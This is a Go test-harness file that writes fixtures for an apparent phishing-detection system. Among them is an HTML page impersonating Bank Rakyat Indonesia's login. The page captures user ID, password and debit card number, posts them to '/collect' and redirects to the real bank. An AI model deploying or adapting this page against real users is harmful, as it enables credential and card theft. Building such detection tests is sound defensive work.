package harness

import (
	"crypto/rand"
	"fmt"
	"os"
	"path/filepath"
)

// svgFixture is a small well-formed image used for the benign content
// path. Rendering it must trip zero indicators.
const svgFixture = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200">
  <rect x="10" y="10" width="100" height="80" fill="blue"/>
  <circle cx="150" cy="150" r="40" fill="red"/>
</svg>
`

// phishingFixture imitates a credential-harvesting page: brand text, a
// login form, a scripted redirect and an exfiltration call. Uploading it
// behind a signed URL exercises the full detection path.
const phishingFixture = `<!DOCTYPE html>
<html>
<head><title>BRI Internet Banking</title></head>
<body>
<h1>Bank Rakyat Indonesia</h1>
<form id="login-form">
  <input name="userid" placeholder="User ID">
  <input name="password" type="password" placeholder="Password">
  <input name="debit" placeholder="Debit card number">
  <button type="submit">Login</button>
</form>
<script>
document.getElementById("login-form").addEventListener("submit", function (e) {
  e.preventDefault();
  fetch("/collect", { method: "POST", body: new FormData(this) });
  window.location = "https://ib.bri.co.id/";
});
</script>
</body>
</html>
`

// WriteSVGFixture writes the benign SVG fixture into dir and returns its
// path.
func WriteSVGFixture(dir string) (string, error) {
	path := filepath.Join(dir, "benign.svg")
	if err := os.WriteFile(path, []byte(svgFixture), 0o644); err != nil {
		return "", fmt.Errorf("writing svg fixture: %w", err)
	}
	return path, nil
}

// WritePhishingFixture writes the credential-harvesting HTML fixture into
// dir and returns its path.
func WritePhishingFixture(dir string) (string, error) {
	path := filepath.Join(dir, "harvest.html")
	if err := os.WriteFile(path, []byte(phishingFixture), 0o644); err != nil {
		return "", fmt.Errorf("writing phishing fixture: %w", err)
	}
	return path, nil
}

// WriteRandomObject writes size bytes of random content to name inside
// dir and returns the path. Random content makes length validation
// meaningful: a truncated or substituted response cannot match.
func WriteRandomObject(dir, name string, size int) (string, error) {
	data := make([]byte, size)
	if _, err := rand.Read(data); err != nil {
		return "", fmt.Errorf("generating object content: %w", err)
	}
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, data, 0o644); err != nil {
		return "", fmt.Errorf("writing object file: %w", err)
	}
	return path, nil
}
